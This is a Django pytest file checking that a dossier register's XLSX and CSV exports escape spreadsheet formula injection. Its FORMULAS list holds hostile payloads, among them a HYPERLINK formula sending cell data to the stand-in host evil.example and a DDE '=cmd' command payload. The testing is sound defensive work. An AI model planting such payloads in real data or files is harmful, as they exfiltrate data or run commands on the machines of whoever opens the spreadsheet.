"""Attack classes of issue 12 that come through input and faults: formula injection in exports, hostile text
(NUL bytes, non-ASCII digits, invisible and bidirectional controls, far-future dates, oversized bodies), notes
at their maximum length, stale rows after a lock, and a Redis outage during writes.

Each test reproduces what the attack on a production-like instance did, through the real parts (test client,
database, files read back with openpyxl and csv)."""
import csv
import io

import openpyxl
import pytest
from django.urls import reverse

from tests.dossiers.conftest import (  # noqa: F401 - fixtures
    MONDAY_0900,
    agency,
    build_dossier,
    clerk,
    leader,
    procedure,
    receive,
    specialist,
)

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', "+1+1", "-2+3", "@SUM(A1:A2)",
            "=cmd|' /C calc'!A0", "\t=1+1"]


# --- formula injection in the Mẫu 07 exports (OWASP CSV injection) ------------------------------------------


def _register_export(client, fmt):
    day = f"{MONDAY_0900:%d/%m/%Y}"
    return client.get(reverse("dashboards:register_export", kwargs={"fmt": fmt}), {"date_from": day, "date_to": day})


@pytest.mark.django_db
def test_no_applicant_text_becomes_a_formula_in_the_register_xlsx(client, clerk, receive):
    for index, name in enumerate(FORMULAS):
        receive(name=f"{name} {index}" if not name.startswith("\t") else name, address=FORMULAS[-1 - index])
    client.force_login(clerk.user)
    response = _register_export(client, "xlsx")
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    texts = [cell for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]
    assert not [cell.coordinate for cell in texts if cell.data_type == "f"]
    assert not [cell.value for cell in texts if cell.value[:1] in ("=", "+", "-", "@", "\t", "\r")]
    names = {cell.value for cell in texts}
    assert "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Bấm vào đây\") 0" in names


@pytest.mark.django_db
def test_no_csv_cell_of_the_register_starts_a_formula(client, clerk, receive):
    for name in FORMULAS:
        receive(name=name.strip() + " An", address=name)
    client.force_login(clerk.user)
    body = b"".join(_register_export(client, "csv").streaming_content).decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(body)) for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "'=cmd|' /C calc'!A0 An" in cells
    assert "'@SUM(A1:A2) An" in cells
